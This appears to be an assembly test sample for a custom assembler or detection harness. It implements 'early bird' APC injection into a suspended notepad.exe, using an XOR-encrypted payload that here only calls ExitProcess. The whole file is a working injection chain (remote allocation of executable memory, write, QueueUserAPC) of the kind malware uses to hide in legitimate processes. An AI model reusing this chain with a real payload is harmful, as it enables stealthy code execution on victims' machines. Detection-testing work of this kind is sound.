; SPDX-License-Identifier: Apache-2.0
; APC injection ("early bird"): the payload is put into notepad.exe before that has run, and queued as an APC of
; its first thread, which runs it when the loader is done and before the entry point.
%import kernel32.dll CreateProcessA, VirtualAllocEx, WriteProcessMemory, QueueUserAPC, ResumeThread
%import kernel32.dll WaitForSingleObject, ExitProcess
%entry start
%payload payload payload_end
%encrypt payload payload_end 0x36

%section .text rx
start:
  push information
  push startup
  push 0
  push 0
  push 4                       ; CREATE_SUSPENDED
  push 0
  push 0
  push 0
  push path
  push 0
  call dword ptr [CreateProcessA]
  test eax, eax
  jz failed
  push 0x40                    ; PAGE_EXECUTE_READWRITE
  push 0x3000
  push 0x1000
  push 0
  push dword ptr [information]
  call dword ptr [VirtualAllocEx]
  test eax, eax
  jz failed
  mov ebx, eax
  mov edi, eax
  mov esi, payload
write:
  mov eax, dword ptr [esi]
  xor eax, 0x36363636
  mov dword ptr [piece], eax
  push 0
  push 4
  push piece
  push edi
  push dword ptr [information]
  call dword ptr [WriteProcessMemory]
  test eax, eax
  jz failed
  add esi, 4
  add edi, 4
  cmp esi, payload_end
  jb write
  push dword ptr [ExitProcess] ; the APC's argument: the same address in both processes
  push dword ptr [thread]
  push ebx
  call dword ptr [QueueUserAPC]
  test eax, eax
  jz failed
  push dword ptr [thread]
  call dword ptr [ResumeThread]
  push -1                      ; INFINITE
  push dword ptr [information]
  call dword ptr [WaitForSingleObject]
  push 0
  call dword ptr [ExitProcess]
failed:
  push 1
  call dword ptr [ExitProcess]

%section .data rw
startup:                       ; STARTUPINFOA
  .long 68
  .zero 64
information:                   ; PROCESS_INFORMATION
  .long 0
thread:
  .long 0, 0, 0
piece:
  .long 0
path:
  .asciz "C:\\Windows\\System32\\notepad.exe"
  .p2align 2, 0
payload:
  mov eax, dword ptr [esp + 4]
  push 0
  call eax
  %marker
  .p2align 2, 0
payload_end:
